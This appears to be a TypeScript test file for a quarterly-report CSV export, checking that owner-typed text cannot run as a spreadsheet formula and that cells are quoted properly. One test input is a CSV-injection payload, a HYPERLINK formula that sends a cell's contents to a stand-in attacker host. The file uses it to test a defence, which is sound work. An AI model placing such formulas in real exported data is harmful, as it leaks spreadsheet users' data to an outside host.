import { QuarterlyReport } from './quarterly-report';
import { renderReportCsv } from './report-csv.renderer';

/** A report of one action whose owner-typed text is `text`; only what the CSV reads is filled in. */
function reportWith(text: { title?: string; commentary?: string; owner?: string }): QuarterlyReport {
  const action = {
    ref: '1.1',
    areaNumber: 1,
    priorityNumbers: [1, 3],
    title: text.title ?? 'Publish the local offer',
    owner: { name: text.owner ?? 'Helen Marsh', role: 'Head of SEND', organisation: 'Demo Council' },
    leadOrganisation: 'Demo Council',
    dueDate: '2026-03-31',
    status: 'IN_PROGRESS',
    rag: 'AMBER',
    lastAsAt: '2026-03-01',
    latestCommentary: text.commentary ?? 'On track',
    actionId: 'action-1',
    revision: 4,
    deliveryConfidence: 'LOW',
    confidenceHistory: [{ level: 'LOW', asAt: '2026-03-02' }],
  };
  const line = { action, overdue: false, stale: false, daysOverdue: 0, previousRag: 'RED', movement: 'UP', evidenceAcceptedInPeriod: 1, eventsInPeriod: [], impactFlag: { reasons: [] } };
  // 1.1 is at risk from two slipping actions upstream.
  const dependencyRisks = [{ action, from: { ref: '5.1' } }, { action, from: { ref: '6.3' } }];
  return { areas: [{ number: 1, name: 'Identification' }], actions: [line], dependencyRisks, chainHead: { position: '42', hash: 'ab'.repeat(32) } } as unknown as QuarterlyReport;
}

/** The cells of the one data row, unquoted as a spreadsheet reads them (RFC 4180). */
function cellsOf(csv: string): Record<string, string> {
  const [header, row] = csv.split('\r\n');
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < row.length; i++) {
    const c = row[i];
    if (quoted) {
      if (c === '"' && row[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') cells.push(cell), (cell = '');
    else cell += c;
  }
  cells.push(cell);
  return Object.fromEntries(header.split(',').map((name, i) => [name, cells[i]]));
}

describe('The quarterly report CSV: owner-typed text cannot run as a spreadsheet formula', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")'],
    ['+44 7700 900123'],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\tindented'],
    ['\rcarriage return first'],
  ])('prefixes %j with an apostrophe, in the commentary, the title and the owner', (text) => {
    const cells = cellsOf(renderReportCsv(reportWith({ commentary: text, title: text, owner: text })));
    expect(cells.latest_commentary).toBe(`'${text}`);
    expect(cells.title).toBe(`'${text}`);
    expect(cells.owner).toBe(`'${text}`);
  });

  it('leaves text alone when the formula character is not first', () => {
    const text = 'Budget 2+2, see =SUM in the appendix; contact @programme-office';
    expect(cellsOf(renderReportCsv(reportWith({ commentary: text }))).latest_commentary).toBe(text);
  });

  it('quotes commas, quotes and line breaks so a row stays one row', () => {
    const text = 'Agreed "in principle", pending\r\nfunding';
    const csv = renderReportCsv(reportWith({ commentary: text }));
    expect(csv.split('\r\n').filter(Boolean)).toHaveLength(3);
    expect(csv).toContain('"Agreed ""in principle"", pending\r\nfunding"');
  });

  it('writes numbers, flags and the chain head as they are', () => {
    const cells = cellsOf(renderReportCsv(reportWith({})));
    expect(cells).toMatchObject({ area: '1', priorities: '1 3', revision: '4', overdue: 'no', plan_chain_position: '42', plan_chain_hash: 'ab'.repeat(32) });
    expect(cells).toMatchObject({ delivery_confidence: 'LOW', delivery_confidence_as_at: '2026-03-02', green_not_moving_the_needle: 'yes' });
    expect(cells.at_risk_from).toBe('5.1 6.3');
  });
});
